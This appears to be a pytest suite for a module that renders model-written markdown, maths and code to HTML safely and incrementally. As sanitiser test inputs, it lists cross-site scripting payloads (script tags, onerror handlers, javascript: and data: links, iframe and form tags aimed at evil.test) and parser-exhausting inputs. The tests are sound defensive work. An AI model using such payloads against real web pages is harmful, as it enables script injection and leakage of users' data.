"""Model text to HTML: what must render, what must never run, and where a growing text may be cut."""

from __future__ import annotations

import html
import re

import pytest
from pygments.token import Keyword

from ui import blocks, growing, markdown
from ui.blocks import BlockBorders
from ui.growing import LiveMarkdown
from ui.markdown import Budget, rendered, to_html
from ui.text import WORDS as W

DOCUMENT = r"""# Title

A paragraph with **bold**, `code` and $x < y$ maths.

1. one

   more of one
2. two

- a
- b

```python
def f():

    return 1
```

| a | b |
|---|---|
| 1 | 2 |

$$
\int_0^1 x\,dx

= \frac12
$$

\[
a

b
\]

Đây là một đoạn tiếng Việt. 这是中文。

> quote

The end."""


NASTY = [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>x</details>",
        "[x](javascript:alert(1))", "![x](javascript:alert(1))", "[x](data:text/html;base64,PHNjcmlwdD4=)", "<a href='javascript:1'>x</a>",
        r"$\text{<img src=x onerror=alert(1)>}$", r"$\href{javascript:alert(1)}{x}$", r"$\text{</math><script>alert(1)</script>}$",
        r"$$\style{position:fixed;inset:0}{x}$$", "<div style='position:fixed;inset:0'>x</div>", "<form action=//evil.test><input></form>",
        '```"onmouseover=alert(1)\nx\n```', "<svg/onload=alert(1)>", "<iframe src=//evil.test></iframe>", "&lt;script&gt;alert(1)&lt;/script&gt;",
        "<style>*{display:none}</style>", "| <img src=x onerror=1> |\n|---|\n| <b onclick=1>x |",
]  # fmt: skip


@pytest.mark.parametrize("seconds", [0.5, 0])
@pytest.mark.parametrize("text", NASTY)
def test_nothing_of_a_models_html_becomes_an_element(text, seconds):
    out = to_html(text, Budget(seconds))
    tags = set(re.findall(r"<\s*/?\s*([a-zA-Z][\w-]*)", out))
    assert not tags & {"script", "img", "details", "iframe", "form", "input", "svg", "style", "link", "object", "embed", "b"}
    inside = " ".join(re.findall(r"<[^>]*>", out))
    assert not re.search(r"\son\w+\s*=|javascript:|\sstyle\s*=|\shref\s*=\s*['\"]data:text", inside)


def test_a_remote_image_becomes_a_link_that_nothing_follows_by_itself():
    out = to_html("![cat](https://evil.test/p.png?q=secret)")
    assert "<img" not in out and "<a href='https://evil.test/p.png?q=secret'" in out and ">cat</a>" in out


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a **b** _c_", "<strong>b</strong>"), ("| a |\n|---|\n| 1 |", "<table>"), ("```python\nx = 1\n```", "<span"),
        ("if a<b and c>d", "if a&lt;b and c&gt;d"), ("see https://example.org now", 'href="https://example.org"'),
        (r"\(a^2\)", "<math"), (r"\[a^2\]", 'display="block"'), ("$$a^2$$", 'display="block"'), ("so $a<b$ holds", "&lt;"),
        ("costs $5 and $10", "costs $5 and $10"), (r"\begin{align}a&=b\end{align}", "<mtable"), ("~~no~~", "<s>no</s>"),
        ("tiếng Việt 中文 🙂", "tiếng Việt 中文 🙂"),
    ],
)  # fmt: skip
def test_what_models_write_is_rendered(text, expected):
    assert expected in to_html(text)


def test_only_whole_addresses_become_links():
    shown = to_html("See main.py, setup.sh and me@example.com, or https://example.com/a.")
    assert shown.count("<a ") == 1 and 'href="https://example.com/a"' in shown and "main.py, setup.sh" in shown


def test_maths_that_cannot_be_read_is_shown_as_it_was_written():
    assert r"\begin{broken" in to_html(r"$\begin{broken x$")


@pytest.mark.parametrize("step", [1, 2, 3, 7, 50])
def test_frozen_blocks_never_change_and_nothing_is_lost(step):
    live, seen = LiveMarkdown(), []
    for end in range(1, len(DOCUMENT) + step, step):
        live.update(DOCUMENT[:end])
        assert live.blocks[: len(seen)] == seen
        seen = list(live.blocks)
    joined = re.sub(r"\s+", "", "".join(live.blocks) + to_html(live.tail))
    assert joined == re.sub(r"\s+", "", to_html(DOCUMENT))


def test_blocks_freeze_soon_and_each_text_is_cut_at_blank_lines_only():
    border = BlockBorders().advance(DOCUMENT)
    assert 0 < border < len(DOCUMENT) and DOCUMENT[:border].endswith("\n")
    assert len(DOCUMENT) - border < 20


@pytest.mark.parametrize(
    "text", ["```\na\n\nb", "$$\na\n\nb", "\\[\na\n\nb", "- a\n\n- b", "- a\n\n  b", "1. a\n\n2", "just a line", "a\n\n"]
)
def test_what_may_still_grow_is_not_frozen(text):
    assert BlockBorders().advance(text) == 0


def test_a_long_block_keeps_the_frozen_part_small_and_linear():
    live = LiveMarkdown()
    text = "\n\n".join(f"Paragraph {i} with some words in it." for i in range(2000))
    for end in range(0, len(text), 997):
        live.update(text[:end])
        assert len(live.tail) < 1200


class Ticks:
    """A clock that goes on by a millisecond whenever it is looked at."""

    def __init__(self):
        self.looks = 0

    def __call__(self):
        self.looks += 1
        return self.looks / 1000


def text_of(shown):
    return html.unescape(re.sub(r"<[^>]*>", "", shown.replace(f"<p class='note'>{markdown.esc(W.shown_as_written)}</p>", "")))


HOSTILE = {
    "rows": "|a|b|\n|-|-|\n" + "|1|2|\n" * 3000, "columns": "|".join(["a"] * 900) + "|\n" + "|".join(["-"] * 900) + "|\n" + "|".join(["b"] * 900) + "|",
    "brackets": "[" * 3000, "links": "[a](" * 1500, "pictures": "![" * 2000, "emphasis": "*a " * 1500, "crossed": "*a_ " * 1500, "strikes": "~~a" * 1500,
    "references": "[a]: b\n\n" + "[a]" * 3000, "open references": "[\\\n" * 2000, "autolinks": "<a:" * 2000,
    "HTML": "<a " * 2000, "entities": "&#" * 2000, "TeX": "$x$ " * 2000, "open TeX": "\\(" * 2000, "headings": "a\n-\n" * 2000, "quotes": "> a\n\n" * 2000,
    "lists": "- a\n\nb\n\n" * 1000, "code": "```java\na a\n```\n" * 2000, "paragraphs": "a\n\n" * 2000,
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_a_text_that_takes_long_is_shown_as_it_was_written_from_where_its_time_is_spent(name):
    text, clock = HOSTILE[name], Ticks()
    parts = list(rendered(text, Budget(0.5, clock=clock)))
    ends = [0, *(end for _, end in parts)]
    assert ends == sorted(ends) and ends[-1] == len(text)
    assert clock.looks < 600  # whatever it is, the clock is looked at on the way, and nothing goes on after that
    assert f"<pre class='plain'>{html.escape(text[ends[-2] :])}</pre>" in parts[-1][0]
    assert W.shown_as_written in html.unescape(parts[-1][0])


def test_what_was_laid_out_in_time_stays_laid_out():
    text = "**one**\n\n" + "[" * 3000
    assert to_html(text, Budget(0.5, clock=Ticks())).startswith("<p><strong>one</strong></p>\n<p class='note'>")


@pytest.mark.parametrize(
    "text", [DOCUMENT, f"{DOCUMENT}\n\n[later] and\n\n[later]: https://example.org", "> - a\n>   ```c\n> x\n\n1. a\n\n   b", "", " \n"]
)
def test_block_by_block_is_the_same_as_all_at_once(text):
    assert to_html(text) == markdown._markdown().render(text, {"budget": Budget()})


@pytest.mark.parametrize("ends", ["\r\n", "\r"])
def test_line_ends_of_other_systems_are_line_ends(ends):
    assert to_html(DOCUMENT.replace("\n", ends)) == to_html(DOCUMENT)


def test_a_long_text_is_laid_out_in_pieces_and_names_of_links_hold_after_them(monkeypatch):
    monkeypatch.setattr(markdown, "_PIECE_CHARS", 100)
    text = "[name]: https://example.org\n\n" + "\n\n".join(f"Paragraph {i} of [name]." for i in range(40))
    lengths = [end - start for start, end in markdown._pieces(text, Budget())]
    assert len(lengths) > 5 and max(lengths) <= 100 and sum(lengths) == len(text)
    assert to_html(text).count('href="https://example.org"') == 40


def test_a_block_that_is_too_long_is_shown_as_it_was_written_and_the_next_is_laid_out(monkeypatch):
    monkeypatch.setattr(markdown, "_PIECE_CHARS", 50)
    monkeypatch.setattr(markdown, "MAX_BLOCK_CHARS", 100)
    block = lambda n: "*" + "a" * (n - 4) + "*\n\n"  # noqa: E731
    shown = to_html(f"**before**\n\n{block(101)}{block(100)}**after**\n\nend")
    assert shown.count("<pre class='plain'>") == 1 and shown.count("<strong>") == 2 and shown.count("<em>") == 1


class Endless:
    """A lexer that has always one more token."""

    def __init__(self):
        self.taken = 0

    def get_tokens_unprocessed(self, code):
        for place, sign in enumerate(code):
            self.taken += 1
            yield place, Keyword, sign


@pytest.mark.parametrize("blocks_of_code", [1, 3])
def test_code_is_coloured_for_a_while_and_then_plain(monkeypatch, blocks_of_code):
    lexer = Endless()
    monkeypatch.setattr(markdown, "get_lexer_by_name", lambda name: lexer)
    code = "<a> " * 1000
    shown = to_html(f"```java\n{code}\n```\n" * blocks_of_code, Budget(100, 0.05, Ticks()))
    assert 40 <= lexer.taken <= 55  # of 4,000: in a budget of 50 looks, for all blocks together
    assert '<span class="k">&lt;a&gt;' in shown
    assert text_of(shown).count("<a> " * 1000) == blocks_of_code


@pytest.mark.parametrize(("more", "coloured"), [(0, True), (1, False)])
def test_long_code_is_not_coloured(monkeypatch, more, coloured):
    monkeypatch.setattr(markdown, "MAX_COLOURED_CHARS", 100)
    assert ("<span class=" in to_html(f"```python\n{'x = 1 # ' + 'a' * (91 + more)}\n```")) == coloured


@pytest.mark.parametrize("change", [lambda code: code.upper(), lambda code: 1 / 0])
def test_a_lexer_that_changes_the_text_or_fails_is_not_trusted(monkeypatch, change):
    class Odd:
        def get_tokens_unprocessed(self, code):
            yield 0, Keyword, change(code)

    monkeypatch.setattr(markdown, "get_lexer_by_name", lambda name: Odd())
    assert "<code>a &lt; b\n</code>" in to_html("```java\na < b\n```")


def test_unknown_languages_are_not_looked_for_in_all_packages(monkeypatch):
    monkeypatch.setattr(markdown, "get_lexer_by_name", None)
    assert "<span>nothing</span>" in to_html("```nothing\nx\n```")


@pytest.mark.parametrize(("more", "drawn"), [(0, True), (1, False)])
def test_a_long_formula_is_shown_as_it_was_written(monkeypatch, more, drawn):
    monkeypatch.setattr(markdown, "MAX_TEX_CHARS", 20)
    assert ("<math" in to_html(f"$${'x' * (20 + more)}$$")) == drawn


def test_each_line_of_a_growing_text_is_looked_at_once(monkeypatch):
    lines = []
    after = blocks._after_line
    monkeypatch.setattr(blocks, "_after_line", lambda line, *rest: (lines.append(line), after(line, *rest))[1])
    text = "```\n" + "one more line\n" * 500
    live = LiveMarkdown()
    for end in range(0, len(text), 50):
        live.update(text[:end])
    assert len(lines) <= 501


def test_what_grows_without_an_end_is_frozen_as_it_was_written(monkeypatch):
    monkeypatch.setattr(growing, "MAX_TAIL_CHARS", 100)
    text = "**a**\n\n```python\n" + "x = '<b>'\n" * 100 + "```\n\n**b**\n\nend"
    live = LiveMarkdown()
    for end in range(1, len(text) + 1):
        live.update(text[:end])
        assert len(live.tail) <= 100
    shown = "".join(live.blocks)
    assert text_of(shown).count("x = '<b>'\n") == 100 and "<b>" not in shown
    assert shown.startswith("<p><strong>a</strong></p>") and shown.rstrip().endswith("<p><strong>b</strong></p>")


def test_a_block_that_is_not_drawn_yet_stays_in_the_tail_and_is_asked_for_again():
    live, asked = LiveMarkdown(), []
    live.advance("a\n\nb", lambda piece: asked.append(piece))
    live.advance("a\n\nb\n\nc", lambda piece: asked.append(piece))
    assert asked == ["a\n\n", "a\n\n"] and live.blocks == [] and live.tail == "a\n\nb\n\nc"
    live.advance("a\n\nb\n\nc", lambda piece: f"<{piece.strip()}>")
    assert live.blocks == ["<a>", "<b>"] and live.tail == "c"


def test_a_great_piece_is_looked_through_over_several_updates(monkeypatch):
    monkeypatch.setattr(growing, "MAX_LINES", 10)
    text = "**a**\n\n" * 100 + "end"
    live = LiveMarkdown()
    live.advance(text, to_html)
    assert len(live.tail) >= len(text) - 10 * 7
    for _ in range(25):
        live.advance(text, to_html)
    assert live.tail == "end" and "".join(live.blocks).count("<strong>a</strong>") == 100
